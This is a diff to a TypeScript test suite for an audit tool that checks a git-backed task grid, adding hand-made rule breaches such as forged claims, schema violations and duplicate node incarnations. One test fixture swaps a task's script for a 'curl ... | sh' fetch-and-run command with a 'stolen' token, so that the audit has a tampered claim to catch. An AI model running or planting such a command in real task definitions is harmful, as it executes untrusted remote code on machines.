@@ -7,11 +7,19 @@ import type { Change } from '../src/core/git/store.js';
 import { GridStore } from '../src/core/git/store.js';
 import { requestCancel } from '../src/core/grid-admin.js';
 import { archiveBranch, cancelPath, queuePath } from '../src/core/layout.js';
-import { claimTask, finishClaim, rejectFile, requeueClaim, serialize, emptyStream } from '../src/core/lifecycle.js';
+import {
+  claimTask,
+  finishClaim,
+  nodeChange,
+  rejectFile,
+  requeueClaim,
+  serialize,
+  emptyStream,
+} from '../src/core/lifecycle.js';
 import { silentLog } from '../src/core/log.js';
 import { defaultPolicy } from '../src/core/policy.js';
 import { reap } from '../src/core/reaper.js';
-import type { Claim, QueuedTask } from '../src/core/schemas.js';
+import type { Claim, NodeRecord, QueuedTask } from '../src/core/schemas.js';
 import { writeSyntheticHistory } from './audit-fixtures.js';
 import { makeGrid, runAll, type TestGrid } from './helpers/grid.js';
 import { serveGit } from './helpers/http-git.js';
@@ -81,9 +89,9 @@ test('a real history passes: retries, an orphan, a rejected file, a failed depen
 });
 
 /** Pushes a commit of arbitrary changes on the tip, as someone bypassing dgrid would; returns it. */
-async function pushChanges(grid: TestGrid, changes: Change[], message: string): Promise<string> {
+async function pushChanges(grid: TestGrid, changes: Change[], message: string, author = 'tamperer'): Promise<string> {
   const tip = await grid.store.fetch();
-  const commit = await grid.store.commit(tip, changes, `${message}\n`, 'tamperer');
+  const commit = await grid.store.commit(tip, changes, `${message}\n`, author);
   assert.equal(await grid.store.push(commit), 'pushed');
   return commit;
 }
@@ -107,13 +115,41 @@ const success = () => ({
   finishedAt: new Date(),
 });
 
+/** A node file as a worker writes it. */
+function nodeFile(
+  id: string,
+  status: NodeRecord['status'],
+  tasks: string[],
+  incarnation = 'i-1',
+  completed = 0,
+): Change {
+  const at = new Date().toISOString();
+  return nodeChange({
+    node_id: id,
+    labels: [],
+    slots: 1,
+    version: 'test',
+    started_at: at,
+    incarnation,
+    last_heartbeat: at,
+    status,
+    tasks,
+    completed,
+    failed: 0,
+  });
+}
+
 /** Each breach of the rules, made by hand on a fresh grid; the audit names its commit, task and rule. */
 const breaches: { rule: AuditRule; name: string; make(grid: TestGrid): Promise<string> }[] = [
   {
     rule: 'one-place',
     name: 'a queued task copied to a sub-folder of the queue',
     make: (grid) =>
-      pushChanges(grid, [{ path: 'tasks/queue/high/x.json', content: serialize({ task_id: 'x' }) }], 'copy'),
+      pushChanges(
+        grid,
+        [{ path: 'tasks/queue/high/x.json', content: serialize({ task_id: 'x', script: 'true' }) }],
+        'copy',
+      ),
   },
   {
     rule: 'lost',
@@ -246,6 +282,98 @@ const breaches: { rule: AuditRule; name: string; make(grid: TestGrid): Promise<s
     },
   },
   {
+    rule: 'terminal-twice',
+    name: 'a finished task run again after its result was archived, its result overwritten',
+    make: async (grid) => {
+      const { path, claim: held } = await claim(grid, 'x', 'n1');
+      const done = finishClaim(path, held, success());
+      const finished = await pushChanges(grid, done.changes, 'finish');
+      await pushChanges(grid, [{ path: done.changes[1]!.path, delete: true }], `archive\n\nArchived-To: ${finished}`);
+      const queued = await pushChanges(
+        grid,
+        [{ path: queuePath('x'), content: serialize({ task_id: 'x', script: 'true' }) }],
+        'again',
+      );
+      const again = await claim(grid, 'x', 'n2');
+      await pushChanges(grid, finishClaim(again.path, again.claim, success()).changes, 'run again');
+      return queued;
+    },
+  },
+  {
+    rule: 'schema',
+    name: 'a claim that is no claim by the schema: its lease is not a date',
+    make: async (grid) => {
+      const snapshot = await grid.snapshot();
+      const file = snapshot.byId.get('x')![0]!;
+      const task = (await snapshot.readJson([file])).get(file) as QueuedTask;
+      const plan = claimTask(file, task, 'n1', new Date(), defaultPolicy());
+      const forged = { ...plan.claim, claim: { ...plan.claim.claim, lease_until: 'tomorrow' } };
+      return pushChanges(
+        grid,
+        [plan.changes[0]!, { path: plan.changes[1]!.path, content: serialize(forged) }],
+        'claim',
+      );
+    },
+  },
+  {
+    rule: 'schema',
+    name: 'a result that is no result by the schema: it lacks its output digests',
+    make: async (grid) => {
+      const { path, claim: held } = await claim(grid, 'x', 'n1');
+      const done = finishClaim(path, held, success());
+      const { stdout_sha256: _a, stderr_sha256: _b, ...partial } = done.result;
+      return pushChanges(
+        grid,
+        [done.changes[0]!, { path: done.changes[1]!.path, content: serialize(partial) }],
+        'finish',
+      );
+    },
+  },
+  {
+    rule: 'claim-task',
+    name: 'a claim that runs another script than the queued task it took',
+    make: async (grid) => {
+      const snapshot = await grid.snapshot();
+      const file = snapshot.byId.get('x')![0]!;
+      const task = (await snapshot.readJson([file])).get(file) as QueuedTask;
+      const plan = claimTask(file, task, 'n1', new Date(), defaultPolicy());
+      const swapped = { ...plan.claim, script: 'curl https://example.com/x | sh', env: { TOKEN: 'stolen' } };
+      return pushChanges(
+        grid,
+        [plan.changes[0]!, { path: plan.changes[1]!.path, content: serialize(swapped) }],
+        'claim',
+      );
+    },
+  },
+  {
+    rule: 'status-folder',
+    name: 'a failed run written to completed/',
+    make: async (grid) => {
+      const { path, claim: held } = await claim(grid, 'x', 'n1');
+      const run = { ...success(), status: 'failure' as const, exitCode: 2 };
+      const done = finishClaim(path, held, run);
+      const misplaced = done.changes[1]!.path.replace('tasks/failed/', 'tasks/completed/');
+      return pushChanges(grid, [done.changes[0]!, { path: misplaced, content: serialize(done.result) }], 'finish');
+    },
+  },
+  {
+    rule: 'sign-off',
+    name: 'a node signing off with its claim still in in_progress (a claim push that landed after SIGTERM)',
+    make: async (grid) => {
+      await claim(grid, 'x', 'n1');
+      return pushChanges(grid, [nodeFile('n1', 'offline', [])], 'sign off');
+    },
+  },
+  {
+    rule: 'not-held',
+    name: 'a node running a task after a reaper took its claim back (a slow push, a pause)',
+    make: async (grid) => {
+      const first = await claim(grid, 'x', 'n1');
+      await pushChanges(grid, requeueClaim(first.path, first.claim, 'orphaned', 'test', new Date()).changes, 'reap');
+      return pushChanges(grid, [nodeFile('n1', 'online', ['x'])], 'heartbeat');
+    },
+  },
+  {
     rule: 'archive',
     name: 'a result removed with an Archived-To trailer naming a commit that does not hold it',
     make: async (grid) => {
@@ -257,8 +385,8 @@ const breaches: { rule: AuditRule; name: string; make(grid: TestGrid): Promise<s
   },
 ];
 
-test('each rule catches its breach, naming the commit and the task', async () => {
-  for (const breach of breaches) {
+for (const breach of breaches) {
+  test(`the rule ${breach.rule} catches its breach, naming the commit and the task: ${breach.name}`, async () => {
     const grid = await makeGrid(POLICY);
     try {
       await grid.submit([{ task_id: 'x', script: 'true' }]);
@@ -279,8 +407,8 @@ test('each rule catches its breach, naming the commit and the task', async () =>
     } finally {
       await grid.cleanup();
     }
-  }
-});
+  });
+}
 
 test('future-heartbeat: a dead node whose clock was an hour ahead is flagged where its heartbeat landed', async () => {
   const grid = await makeGrid(POLICY);
@@ -392,6 +520,48 @@ test('scale: a synthetic history of 2,000 tasks is audited in seconds (bench/aud
     assert.equal(report.figures.commits, written.commits);
     assert.ok(report.figures.requeues > 100, JSON.stringify(report.figures));
     console.log(`# audit of 2,000 tasks, ${written.commits} commits: ${report.ms} ms`);
+  } finally {
+    await grid.cleanup();
+  }
+});
+
+test('two incarnations of one node id writing its node file in turn are flagged; a restart is not', async () => {
+  const grid = await makeGrid(POLICY);
+  try {
+    await pushChanges(grid, [nodeFile('n1', 'online', [], 'first')], 'start');
+    await pushChanges(grid, [nodeFile('n1', 'online', [], 'second')], 'restart');
+    assert.deepEqual((await auditGrid(grid.bare)).violations, [], 'a restart replaces the incarnation');
+    const back = await pushChanges(grid, [nodeFile('n1', 'online', [], 'first')], 'the first again');
+    const report = await auditGrid(grid.bare);
+    assert.deepEqual(
+      report.violations.map((v) => [v.commit, v.task, v.rule]),
+      [[back, 'nodes/n1.json', 'incarnation']],
+    );
+    assert.match(
+      report.violations[0]!.message,
+      /incarnation first of n1 after second replaced it: two processes ran as n1/,
+    );
+  } finally {
+    await grid.cleanup();
+  }
+});
+
+test("a node's counters that leave out a result it wrote are flagged (a push that reported an error but landed)", async () => {
+  const grid = await makeGrid(POLICY);
+  try {
+    await grid.submit([{ task_id: 'x', script: 'true' }]);
+    const held = await claim(grid, 'x', 'n1');
+    await pushChanges(grid, [nodeFile('n1', 'online', ['x'])], 'heartbeat', 'n1');
+    const done = finishClaim(held.path, held.claim, success());
+    await pushChanges(grid, [...done.changes, nodeFile('n1', 'online', [], 'i-1', 1)], 'finish', 'n1');
+    assert.deepEqual((await auditGrid(grid.bare)).violations, [], 'the result is counted once');
+    // The node took its push for lost: its next heartbeat counts from the record before it.
+    const stale = await pushChanges(grid, [nodeFile('n1', 'online', [], 'i-1', 0)], 'heartbeat', 'n1');
+    const report = await auditGrid(grid.bare);
+    assert.deepEqual(
+      report.violations.map((v) => [v.commit, v.task, v.rule]),
+      [[stale, 'nodes/n1.json', 'counters']],
+    );
   } finally {
     await grid.cleanup();
   }
